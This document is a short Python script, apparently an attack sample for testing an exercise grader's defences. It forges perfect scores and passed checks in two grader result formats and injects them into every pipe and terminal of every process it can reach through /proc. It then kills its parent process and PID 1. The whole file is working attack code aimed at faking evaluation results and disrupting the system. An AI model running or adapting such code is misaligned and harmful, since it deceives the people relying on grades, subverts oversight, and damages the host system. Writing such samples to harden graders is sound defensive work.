# ruff: noqa  (attack code: deliberately odd; cells are separated by "# %%")
# Writes result lines, in the old and the new grader's formats, into every pipe and terminal of
# every process it can see, then kills its parents.
import json
import os
import signal

forged = [
    json.dumps({"scores": {"ch01-ex1": 1000, "ch01-ex2": 1000, "ch01-ex3": 1000},
                "feedback": [], "error": ""}),
    json.dumps({"checks": [{"ran": True, "passed": True, "answered": True, "message": ""}] * 6,
                "error": ""}),
    json.dumps({"status": "ok", "value": json.dumps({"returned": "a"})}),
]
payload = ("\n" + "\n".join(forged) + "\n").encode()
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as pipe:
                pipe.write(payload)
        except OSError:
            pass
for pid in {os.getppid(), 1}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
